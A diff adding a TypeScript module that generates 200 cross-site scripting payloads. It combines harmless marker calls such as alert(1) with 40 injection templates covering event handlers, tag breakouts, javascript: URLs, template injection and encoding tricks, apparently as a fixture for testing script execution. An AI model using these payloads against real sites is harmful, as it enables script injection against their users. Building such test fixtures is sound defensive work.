@@ -1,0 +1,50 @@
+/** What a page would have to build out of text for a script to run; each leaves a mark. */
+const CALLS = ['alert(1)', 'confirm`1`', 'prompt(1)', 'print()', 'self.ran=1'] as const;
+
+const TEMPLATES: readonly ((call: string) => string)[] = [
+  (call) => `<img src=x data-ran onerror=${call}>`,
+  (call) => `"><b data-ran onmouseover=${call}>`,
+  (call) => `</script><script data-ran>${call}</script>`,
+  (call) => `<script>${call}</script>`,
+  (call) => `<svg data-ran onload=${call}>`,
+  (call) => `'><i data-ran autofocus onfocus=${call}>`,
+  (call) => `</title><img data-ran src=x onerror=${call}>`,
+  (call) => `</style><script data-ran>${call}</script>`,
+  (call) => `<iframe data-ran srcdoc="<script>${call}</script>">`,
+  (call) => `<iframe data-ran src=javascript:${call}>`,
+  (call) => `<a data-ran href=javascript:${call}>x</a>`,
+  (call) => `javascript:${call}`,
+  (call) => `JaVaScRiPt:${call}//`,
+  (call) => `\u0001javascript:${call}`,
+  (call) => `data:text/html,<script>${call}</script>`,
+  (call) => `<math><mtext></p><img data-ran src onerror=${call}>`,
+  (call) => `<details data-ran open ontoggle=${call}>`,
+  (call) => `<video data-ran><source onerror=${call}>`,
+  (call) => `<body data-ran onpageshow=${call}>`,
+  (call) => `<input data-ran autofocus onfocus=${call}>`,
+  (call) => `<form data-ran action=javascript:${call}><button>x`,
+  (call) => `<object data-ran data=javascript:${call}>`,
+  (call) => `<embed data-ran src=javascript:${call}>`,
+  (call) => `<meta data-ran http-equiv=refresh content="0;url=javascript:${call}">`,
+  (call) => `<base data-ran href=javascript:${call}//>`,
+  (call) => `<link data-ran rel=stylesheet href=data:,*{color:red}>`.concat(`<!--${call}-->`),
+  (call) => `<style data-ran onload=${call}>`,
+  (call) => `<svg><a xlink:href=javascript:${call}><text data-ran>x`,
+  (call) => `<svg><animate data-ran onbegin=${call} attributeName=x>`,
+  (call) => `<marquee data-ran onstart=${call}>`,
+  (call) => `\\"-${call}-\\"`,
+  (call) => `'-${call}-'`,
+  (call) => `";${call}//`,
+  (call) => `{{constructor.constructor('${call}')()}}`,
+  (call) => `\${${call}}`,
+  (call) => `&lt;img data-ran src=x onerror=${call}&gt;`,
+  (call) => `&#60;script&#62;${call}&#60;/script&#62;`,
+  (call) => `%3Cscript%3E${call}%3C/script%3E`,
+  (call) => `\u003cimg data-ran src=x onerror=${call}\u003e`,
+  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
+];
+
+/** 200 of them, the most telling first. */
+export const PAYLOADS: readonly string[] = CALLS.flatMap((call) =>
+  TEMPLATES.map((template) => template(call)),
+);
